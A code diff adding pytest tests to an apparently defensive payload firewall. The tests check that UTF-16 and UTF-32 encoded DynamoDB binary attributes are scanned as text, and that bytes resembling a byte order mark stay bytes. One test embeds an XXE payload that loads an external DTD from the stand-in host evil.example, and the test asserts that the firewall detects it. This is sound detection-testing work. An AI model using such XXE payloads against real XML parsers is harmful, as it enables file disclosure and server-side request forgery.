@@ -145,3 +145,18 @@ def test_numbers_and_nulls_are_nothing_to_inspect() -> None:
 
     verdict = FIREWALL.inspect({"a": 1, "b": 2.5, "c": Decimal("3"), "d": None, "e": True, "f": [1, None]})
     assert (verdict.action, verdict.error) == ("forward", None)
+
+
+@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le", "utf-32"])
+def test_a_binary_attribute_in_utf16_or_utf32_is_inspected_as_text(encoding: str) -> None:
+    xxe = '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % x SYSTEM "http://evil.example/x.dtd"> %x;]><r/>'
+    verdict = FIREWALL.inspect_event(_dynamodb_binary(xxe.encode(encoding)))[0]
+    assert any(m.signature_id.startswith("FW-XXE") for m in verdict.matches)
+
+
+def test_binary_that_merely_opens_like_a_byte_order_mark_stays_bytes() -> None:
+    from firewall.sources.fields import text_or_bytes
+
+    assert text_or_bytes(b"\xff\xfe") == b"\xff\xfe"
+    assert text_or_bytes(b"\xff\xfe" + bytes(64)) == b"\xff\xfe" + bytes(64)  # 32 NUL characters
+    assert text_or_bytes("<r/>".encode("utf-16")) == "<r/>"
